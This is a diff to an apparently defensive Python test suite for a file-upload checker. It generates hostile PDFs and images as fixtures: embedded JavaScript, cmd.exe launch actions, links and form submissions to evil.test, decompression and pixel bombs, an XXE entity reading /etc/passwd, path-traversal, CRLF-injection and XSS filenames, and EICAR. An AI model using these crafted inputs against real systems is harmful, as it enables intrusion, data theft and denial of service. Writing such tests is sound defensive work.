@@ -152,7 +152,7 @@ def link(kind, **more):
     """Makes a PDF with a link that runs this action when it is clicked."""
 
     def change(document):
-        action = Dictionary(S=Name(f"/{kind}"), **more)
+        action = Dictionary(**({"S": Name(f"/{kind}")} if kind else {}), **more)
         page = document.pages[0]
         page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action)])
 
@@ -168,11 +168,47 @@ def note(subtype, **more):
     return lambda: pdf(change=change)
 
 
-def attached():
+def attached(name="cv.exe", content=b"MZ" + EICAR):
     def change(document):
-        document.attachments["cv.exe"] = b"MZ" + EICAR
+        document.attachments[name] = content
 
     return pdf(change=change)
+
+
+def external(document):
+    place = Dictionary(Type=Name.Filespec, FS=Name.URL, F="http://evil.test/a")
+    document.pages[0].Contents = Stream(document, b"", F=place)
+
+
+def for_old_printers(document):
+    drawing = Stream(document, b"showpage", Type=Name.XObject, Subtype=Name.PS)
+    document.pages[0].Resources = Dictionary(XObject=Dictionary(A=drawing))
+
+
+def referring(document):
+    """Draws a form whose proxy is here, and whose drawing is in another file."""
+    there = Dictionary(F=Dictionary(Type=Name.Filespec, F="//evil.test/a.pdf"), Page=0)
+    box = Array([0, 0, 9, 9])
+    form = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=box, Ref=there)
+    document.pages[0].Resources = Dictionary(XObject=Dictionary(A=form))
+
+
+def sized(side, *, unit=1):
+    def change(document):
+        document.pages[0].obj.MediaBox = Array([0, 0, side, side])
+        document.pages[0].obj.UserUnit = unit
+
+    return change
+
+
+def calls_home(document):
+    address = Dictionary(S=Name.URI, URI="https://evil.test/")
+    document.pages[0].AA = Dictionary(O=address)
+
+
+def script_in_a_stream(document):
+    code = document.make_stream(b"app.alert(1)")
+    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.JavaScript, JS=code))
 
 
 def on_page(document):
@@ -279,6 +315,60 @@ def picture_bomb():
     return written(CATALOG, PAGES, page, streamed(zeros(3), image + b" /ColorSpace /DeviceGray"))
 
 
+def picture_of(data, kind):
+    """Makes a PDF that draws a picture of one point, says its dictionary."""
+
+    def change(document):
+        entries = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 1, "/Height": 1}
+        entries |= {"/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 8, "/Filter": Name(kind)}
+        document.pages[0].Resources = Dictionary(
+            XObject=Dictionary(A=Stream(document, data, Dictionary(entries)))
+        )
+
+    return pdf(change=change)
+
+
+def jpeg_2000_of(side):
+    size = struct.pack(">HHIIII", 41, 0, side, side, 0, 0)
+    return b"\xff\x4f\xff\x51" + size + struct.pack(">IIII", side, side, 0, 0) + b"\xff\xd9"
+
+
+def two_headers():
+    return jpeg_2000_of(1) + jpeg_2000_of(60_000)
+
+
+def jbig2_of(side, *, kind=48):
+    page = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">II", 1, 1) + bytes(11)
+    data = struct.pack(">II", side, side) + bytes(11)
+    return page + struct.pack(">IBBBI", 1, kind, 0, 1, len(data)) + data
+
+
+def faxed():
+    image = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 1"
+    options = b"/ColorSpace /DeviceGray /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
+    body = b"<< %s %s /Filter /CCITTFaxDecode /Length 1 >>\nstream\n \nendstream" % (image, options)
+    resources = b"/Resources << /XObject << /A 4 0 R >> >> >>"
+    return written(CATALOG, PAGES, PAGE.removesuffix(b">>") + resources, body)
+
+
+def shared_drawing():
+    """Draws two megabytes of marks on each of fifty pages, in twenty thousand bytes."""
+
+    def change(document):
+        drawing = document.make_stream(zlib.compress(b"/P BMC 0 0 m 9 9 l S EMC\n" * 80_000))
+        drawing.Filter = Name.FlateDecode
+        for page in document.pages:
+            page.obj.Contents = drawing
+
+    return pdf(pages=50, change=change)
+
+
+def misplaced(made):
+    """Moves the table of objects, which is then searched for them."""
+    at = made.rindex(b"startxref\n") + len(b"startxref\n")
+    return made[:at] + b"7\n%%EOF\n"
+
+
 def updated():
     """Makes a harmless document, then appends an update with a script to its catalogue."""
     first = written(CATALOG, PAGES, PAGE)
@@ -303,69 +393,104 @@ PDF_LABELS = [
     ("PDF d’un octet", lambda: b"%"),
     ("PDF vide", lambda: b""),
     ("en-tête seul", lambda: b"%PDF-1.7\n"),
-    ("HTML avant le PDF", lambda: SCRIPT + b"\n" + pdf()),
-    ("archive avant le PDF", lambda: archive() + pdf()),
-    ("photographie nommée PDF", picture),
+    ("en-tête après 1 024 octets", lambda: bytes(1024) + pdf()),
     ("PDF tronqué", lambda: pdf(pages=20)[:-400]),
     ("PDF coupé en deux", lambda: pdf(pages=20)[: len(pdf(pages=20)) // 2]),
     ("PDF trop lourd", lambda: stuffed(pdf(), LIMIT + 1)),
     ("mot de passe pour ouvrir", encrypted(user="a", owner="b")),
-    ("mot de passe pour imprimer", encrypted(user="", owner="b")),
-    ("script à l’ouverture", root(OpenAction=script())),
-    ("script dans les noms", lambda: pdf(change=in_names)),
-    ("script d’une page", lambda: pdf(change=on_page)),
-    ("script dans un flux d’objets", compressed),
-    ("script aux noms codés", escaped),
-    ("script ajouté en mise à jour", updated),
-    ("script suivi d’un autre acte", act("GoTo", Next=script())),
-    ("lancement d’un programme", act("Launch", F="cmd.exe")),
-    ("lancement par un lien", link("Launch", F="cmd.exe")),
-    ("envoi d’un formulaire", link("SubmitForm", F="https://evil.test/")),
-    ("import de données", link("ImportData", F="a.fdf")),
-    ("fichier distant", link("GoToR", F="//evil.test/partage")),
-    ("fichier emboîté", link("GoToE", F="a.pdf")),
-    ("vidéo", link("Rendition", OP=0)),
-    ("fichier joint", attached),
+    ("programme joint", attached),
+    ("porte-documents", root(Collection=Dictionary())),
     ("pièce jointe en note", note("FileAttachment", FS=Dictionary(EF=Dictionary(F="a")))),
     ("média riche", note("RichMedia", RichMediaContent=Dictionary())),
     ("écran", note("Screen")),
     ("son", note("Sound")),
     ("trois dimensions", note("3D")),
     ("formulaire XFA", root(AcroForm=Dictionary(XFA="<xdp/>", Fields=Array([])))),
-    ("actions du document", root(AA=Dictionary(WC=script()))),
+    ("page tirée d’un autre fichier", lambda: pdf(change=external)),
+    ("dessin PostScript", lambda: pdf(change=for_old_printers)),
+    ("page de 10¹⁸ points", lambda: pdf(change=sized(10**9, unit=10**9))),
+    ("page sans largeur", lambda: pdf(change=sized(0))),
     ("51 pages", lambda: pdf(pages=51)),
     ("10 000 pages", lambda: pdf(pages=10_000)),
     ("aucune page", lambda: pdf(pages=0)),
     ("pages en boucle", looped),
     ("mille milliards de pages", doubled),
     ("bombe dans une page", content_bomb),
+    ("même dessin lourd sur 50 pages", shared_drawing),
     ("bombe dans un flux d’objets", object_bomb),
+    ("tableaux emboîtés 200 000 fois", nested),
     ("image de 3 600 Mpx", picture_bomb),
-    ("table de deux milliards d’objets", lambda: written(CATALOG, PAGES, PAGE, trailer=b"/Prev 9")),
+    ("image de 1 Go compressé", lambda: picture_of(zeros(1000), "/FlateDecode")),
+    (
+        "image JPEG de 4 milliards de points",
+        lambda: picture_of(jpeg_of(65_500, 65_500), "/DCTDecode"),
+    ),
+    ("JPEG 2000 de 3 600 Mpx", lambda: picture_of(jpeg_2000_of(60_000), "/JPXDecode")),
+    ("second en-tête de JPEG 2000", lambda: picture_of(two_headers(), "/JPXDecode")),
+    ("JBIG2 de 3 600 Mpx", lambda: picture_of(jbig2_of(60_000), "/JBIG2Decode")),
+    ("région JBIG2 de 3 600 Mpx", lambda: picture_of(jbig2_of(60_000, kind=38), "/JBIG2Decode")),
+    ("télécopie de 3 600 Mpx", faxed),
 ]
 STILL_PDF = [
     ("ouverture à une page", "cv.pdf", root(OpenAction=Array([0, Name.Fit]))),
+    ("HTML avant le PDF", "cv.pdf", lambda: SCRIPT + b"\n" + pdf()),
+    ("archive avant le PDF", "cv.pdf", lambda: archive() + pdf()),
+    ("photographie nommée PDF", "cv.pdf", picture),
+    ("mot de passe pour imprimer", "cv.pdf", encrypted(user="", owner="b")),
+    ("script à l’ouverture", "cv.pdf", root(OpenAction=script())),
+    ("script dans les noms", "cv.pdf", lambda: pdf(change=in_names)),
+    ("script d’une page", "cv.pdf", lambda: pdf(change=on_page)),
+    ("script dans un flux d’objets", "cv.pdf", compressed),
+    ("script aux noms codés", "cv.pdf", escaped),
+    ("script ajouté en mise à jour", "cv.pdf", updated),
+    ("script dans un objet retrouvé", "cv.pdf", lambda: misplaced(updated())),
+    ("script suivi d’un autre acte", "cv.pdf", act("GoTo", Next=script())),
+    ("script en flux", "cv.pdf", lambda: pdf(change=script_in_a_stream)),
+    ("script sans type d’acte", "cv.pdf", link("", JS="app.alert(1)")),
+    ("script par une adresse", "cv.pdf", link("URI", URI="javascript:app.alert(1)")),
+    ("fichier par une adresse", "cv.pdf", link("URI", URI="file:////evil.test/a")),
+    ("partage Windows par une adresse", "cv.pdf", link("URI", URI="\\\\evil.test\\a")),
+    ("adresse sans protocole", "cv.pdf", link("URI", URI="//evil.test/a")),
+    ("adresses relatives", "cv.pdf", root(URI=Dictionary(Base="file:////evil.test/"))),
+    ("adresse ouverte avec la page", "cv.pdf", lambda: pdf(change=calls_home)),
+    ("fil d’un autre fichier", "cv.pdf", link("Thread", F="//evil.test/a.pdf", D=0)),
+    ("dessin d’un autre fichier", "cv.pdf", lambda: pdf(change=referring)),
+    ("lancement d’un programme", "cv.pdf", act("Launch", F="cmd.exe")),
+    ("lancement par un lien", "cv.pdf", link("Launch", F="cmd.exe")),
+    ("envoi d’un formulaire", "cv.pdf", link("SubmitForm", F="https://evil.test/")),
+    ("import de données", "cv.pdf", link("ImportData", F="a.fdf")),
+    ("fichier distant", "cv.pdf", link("GoToR", F="//evil.test/partage")),
+    ("fichier emboîté", "cv.pdf", link("GoToE", F="a.pdf")),
+    ("vidéo", "cv.pdf", link("Rendition", OP=0)),
+    ("acte d’un autre nom", "cv.pdf", link("Inconnu", F="//evil.test/a")),
+    ("actions du document", "cv.pdf", root(AA=Dictionary(WC=script()))),
+    ("données d’une facture", "cv.pdf", lambda: attached("factur-x.xml", EICAR)),
+    (
+        "table de deux milliards d’objets",
+        "cv.pdf",
+        lambda: written(CATALOG, PAGES, PAGE, trailer=b"/Prev 9"),
+    ),
     ("archive après le PDF", "cv.pdf", lambda: stuffed(pdf(), 2000) + archive()),
     ("EICAR que rien ne cite", "cv.pdf", lambda: pdf(change=unreachable)),
     ("EICAR en commentaire", "cv.pdf", lambda: stuffed(pdf(), 2000) + b"%" + EICAR),
     ("150 000 objets", "cv.pdf", crowded),
-    ("tableaux emboîtés 200 000 fois", "cv.pdf", nested),
     ("extension double, vrai PDF", "cv.php.pdf", pdf),
+    ("extension d’un programme, vrai PDF", "cv.pdf.exe", pdf),
+    ("sans extension, vrai PDF", "cv", pdf),
+    ("octet nul, puis une autre extension", "cv.pdf\x00.exe", pdf),
+    ("extension de 300 lettres", "cv." + "b" * 300, pdf),
     ("dossier parent", "../../etc/cron.d/cv.pdf", pdf),
     ("dossier parent de Windows", "..\\..\\windows\\cv.pdf", pdf),
     ("300 lettres", "a" * 300 + ".pdf", pdf),
     ("nom sans lettre", ".pdf", pdf),
     ("sens d’écriture renversé, vrai PDF", "cv\u202egnp.pdf", pdf),
+    ("sens d’écriture renversé, extension d’un programme", "cv\u202efdp.exe", pdf),
     ("retour à la ligne dans le nom", "cv\r\nSet-Cookie: a=b.pdf", pdf),
     ("guillemets dans le nom", 'cv".html".pdf', pdf),
     ("balise dans le nom", "<img src=x onerror=alert(1)>.pdf", pdf),
+    ("PDF nommé JPEG", "a.jpg", pdf),
 ]
 NAMES = [
-    ("extension double", "cv.pdf.exe", pdf),
-    ("sans extension", "cv", pdf),
-    ("octet nul, puis une autre extension", "cv.pdf\x00.exe", pdf),
-    ("sens d’écriture renversé", "cv\u202efdp.exe", pdf),
-    ("extension de 300 lettres", "cv." + "b" * 300, pdf),
     ("SVG avec un script", "a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT),
     ("page HTML", "a.html", lambda: SCRIPT),
     ("entités XML", "a.xml", lambda: b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
@@ -373,18 +498,13 @@ NAMES = [
     ("archive", "a.zip", archive),
     ("GIF", "a.gif", lambda: picture(form="GIF")),
     ("TIFF", "a.tiff", lambda: picture(form="TIFF")),
-    ("photographie HEIC", "a.heic", lambda: b"\x00\x00\x00\x18ftypheic"),
 ]
 PICTURES = [
     ("GIF nommé JPEG", "a.jpg", lambda: picture(form="GIF")),
     ("TIFF nommé JPEG", "a.jpg", lambda: picture(form="TIFF")),
-    ("WebP nommé PNG", "a.png", lambda: picture(form="WEBP")),
     ("EPS nommé JPEG", "a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
     ("archive nommée PNG", "a.png", archive),
     ("PHP nommé JPEG", "a.jpg", lambda: PHP),
-    ("JPEG nommé PNG", "a.png", picture),
-    ("PNG nommé JPEG", "a.jpg", lambda: picture(form="PNG")),
-    ("PDF nommé JPEG", "a.jpg", pdf),
     ("JPEG d’un octet", "a.jpg", lambda: b"\xff"),
     ("PNG vide", "a.png", lambda: b""),
     ("trois octets de JPEG, puis EICAR", "a.jpg", lambda: b"\xff\xd8\xff" + EICAR),
@@ -396,6 +516,12 @@ PICTURES = [
     ("PNG de 4 milliards de points", "a.png", lambda: png(pixels(), size=(65_535, 65_535))),
     ("PNG de 41 Mpx", "a.png", lambda: picture(form="PNG", mode="L", size=(8200, 5000))),
     ("JPEG de 4 milliards de points", "a.jpg", lambda: jpeg_of(65_500, 65_500)),
+    ("WebP de 26 Mpx", "a.webp", lambda: picture(form="WEBP", size=(6500, 4001), method=0)),
+    ("ruban JPEG de 65 millions de points", "a.jpg", lambda: picture(size=(65_500, 1000))),
+    ("vidéo MP4 nommée HEIC", "a.heic", lambda: b"\x00\x00\x00\x18ftypisom" + bytes(99)),
+    ("HEIC coupé", "a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(99)),
+    ("AVIF coupé", "a.avif", lambda: picture(form="AVIF")[:-40]),
+    ("WebP coupé", "a.webp", lambda: picture(form="WEBP", size=(400, 300))[:-40]),
     (
         "texte compressé de 1 Go",
         "a.png",
@@ -408,6 +534,9 @@ PICTURES = [
     ),
 ]
 STILL_PICTURES = [
+    ("WebP nommé PNG", "a.png", lambda: picture(form="WEBP")),
+    ("JPEG nommé PNG", "a.png", picture),
+    ("PNG nommé JPEG", "a.jpg", lambda: picture(form="PNG")),
     ("lieu et légende en EXIF", "a.jpg", located),
     (
         "lieu en XMP",
